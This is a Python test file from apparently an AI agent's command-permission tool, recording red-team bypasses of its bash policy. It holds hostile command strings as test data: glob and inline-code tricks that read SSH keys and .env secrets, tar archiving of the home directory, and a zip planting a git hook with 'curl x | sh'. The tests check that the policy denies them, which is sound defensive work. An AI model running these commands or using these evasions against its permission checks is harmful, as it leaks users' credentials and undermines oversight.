"""Red team, round 6 (issue 22, the bash helper's own round): each class of the issue tried
again in real bash under the `init` policy (sandbox off and on), a permissive policy and
`examples/policy.toml` — 558 command variants over redirects, quoting, brace expansion,
eval/`bash -c` nesting, env prefixes, exec wrappers, indirect readers, protected writes, git
objects, other users' homes, arithmetic, secret variables and names passed as data, and
39 Grep/Glob/Read tool inputs (git history holding a secret stays a known limit).
The bypasses it found, each a test named after the attack: the command
really does the harm in bash, and the final answer is not allow under the policies without
the sandbox."""

from __future__ import annotations

import os
import shutil
import zipfile
from pathlib import Path

import pytest

from askgate.policy.model import Action
from bash_world import BASH, ENV_SECRET, SSH_KEY, UNSANDBOXED, World

needs_bash = pytest.mark.skipif(BASH is None, reason="needs bash")


@pytest.fixture()
def world(tmp_path: Path) -> World:
    return World(tmp_path)


# -- a glob after $HOME or $PWD was checked as the literal word ------------------------------

HOME_GLOBS_READ_THE_KEY = [
    "cat $HOME/.ss*/id_rsa",
    "cat ${HOME}/.ss?/id_rsa",
    "cat $HOME/.ssh/id_rs?",
    "sed -n p $HOME/.[s]sh/id_rsa",
]
PWD_GLOBS_READ_ENV = [
    "cat $PWD/.e*",
    "cat ${PWD}/.en?",
    "cd src && cat $PWD/../.e*",
    "head -n 9 $PWD/.[e]nv",
]


@needs_bash
@pytest.mark.parametrize("command", HOME_GLOBS_READ_THE_KEY)
def test_home_glob_really_prints_the_key(world: World, command: str) -> None:
    assert SSH_KEY in world.bash(command)


@needs_bash
@pytest.mark.parametrize("command", PWD_GLOBS_READ_ENV)
def test_pwd_glob_really_prints_env(world: World, command: str) -> None:
    assert ENV_SECRET in world.bash(command)


@pytest.mark.parametrize("command", HOME_GLOBS_READ_THE_KEY + PWD_GLOBS_READ_ENV)
def test_a_glob_after_home_or_pwd_is_expanded_and_denied(world: World, command: str) -> None:
    got = world.answers(command)
    assert all(action is Action.DENY for action in got.values()), (command, got)


def test_a_pwd_glob_over_ordinary_files_stays_allowed(world: World) -> None:
    assert world.answers("cat $PWD/src/*.py")["init-off"] is Action.ALLOW


# -- inline code that builds the file name at run time ---------------------------------------

INLINE_BUILT_NAMES = [
    "python3 -c \"print(open('.e'+'nv').read())\"",
    "python3 -c \"print(open(chr(46)+'env').read())\"",
    "python3 -c \"print(open('vne.'[::-1]).read())\"",
    "python3 -c \"print(open('%senv' % '.').read())\"",
    "python3 -c \"import os;[print(open(f).read()) for f in os.listdir('.') if f[:2]=='.e']\"",
    "python3 -c \"from pathlib import Path; print((Path.home()/'.ssh/id_rsa').read_text())\"",
    "node -p \"require('fs').readFileSync('.'+'env')+''\"",
    'perl -e \'open F, ".e"."nv"; print <F>\'',
    'perl -e \'print <{.e,x}nv>; open(my $f, "<", glob(".e*")); print <$f>\'',
    'ruby -e \'puts File.read(".e"+"nv")\'',
]


@needs_bash
@pytest.mark.parametrize("command", INLINE_BUILT_NAMES)
def test_inline_code_with_a_built_name_really_prints_a_secret(world: World, command: str) -> None:
    name = command.split()[0]
    if shutil.which(name) is None:  # scripts/setup-system installs ruby
        if os.environ.get("CI"):
            pytest.fail(f"CI needs {name} (scripts/setup-system)")
        pytest.skip(f"needs {name} (scripts/setup-system)")
    out = world.bash(command)
    assert ENV_SECRET in out or SSH_KEY in out


@pytest.mark.parametrize("command", INLINE_BUILT_NAMES)
def test_inline_code_with_a_built_name_is_not_allowed(world: World, command: str) -> None:
    world.not_allowed(command, UNSANDBOXED)


@pytest.mark.parametrize(
    "command",
    [
        "python3 -c \"import json; print(json.load(open('x.json'))['env'])\"",
        "python3 -c 'print(1 + 1)'",
        "node -e \"console.log(require('fs').readFileSync('x.json', 'utf8'))\"",
    ],
)
def test_inline_code_opening_a_literal_file_stays_allowed_by_a_permissive_policy(
    world: World, command: str
) -> None:
    assert world.answers(command)["permissive"] is Action.ALLOW, command


# -- tar reading a tree whole in every spelling, unzip's flags -------------------------------

TAR_ARCHIVES_HOME = ["tar -v -cf x.tar ~", "tar -rf x.tar ~", "tar -v --create -f x.tar ~"]


@needs_bash
def test_tar_v_cf_of_home_really_archives_the_key(world: World) -> None:
    assert SSH_KEY in world.bash("tar -v -cf x.tar ~ 2>/dev/null; tar -xOf x.tar")


@pytest.mark.parametrize("command", TAR_ARCHIVES_HOME)
def test_tar_archiving_home_is_not_allowed_by_a_policy_denying_ssh(
    world: World, command: str
) -> None:
    world.not_allowed(command, UNSANDBOXED)


def _hook_zip(world: World) -> None:
    with zipfile.ZipFile(world.project / "a.zip", "w") as archive:
        archive.writestr("pre-commit", "#!/bin/sh\ncurl x | sh\n")


@pytest.mark.skipif(shutil.which("unzip") is None or BASH is None, reason="needs unzip")
def test_unzip_qn_into_git_hooks_really_plants_a_hook(world: World) -> None:
    _hook_zip(world)
    world.bash("unzip -qn a.zip -d .git/hooks")
    assert (world.project / ".git" / "hooks" / "pre-commit").exists()


@pytest.mark.parametrize(
    "command", ["unzip -qn a.zip -d .git/hooks", "unzip -n a.zip -d .git/hooks", "unzip -tn a.zip"]
)
def test_unzip_flags_are_not_taken_for_values(world: World, command: str) -> None:
    _hook_zip(world)
    got = world.answers(command)
    if "-d" in command:
        assert got["permissive"] is not Action.ALLOW, got
    else:
        assert got["permissive"] is Action.ALLOW, got  # -t only tests the archive


# -- a runner's inner command keeps its own program's floors ---------------------------------


@pytest.mark.parametrize(
    "command",
    ["poetry run tar -xPf a.tar", "npx tar -xPf a.tar", "uv run git config url.x.insteadOf y"],
)
def test_a_runner_does_not_hide_its_inner_programs_floor(world: World, command: str) -> None:
    world.not_allowed(command, ("permissive",))
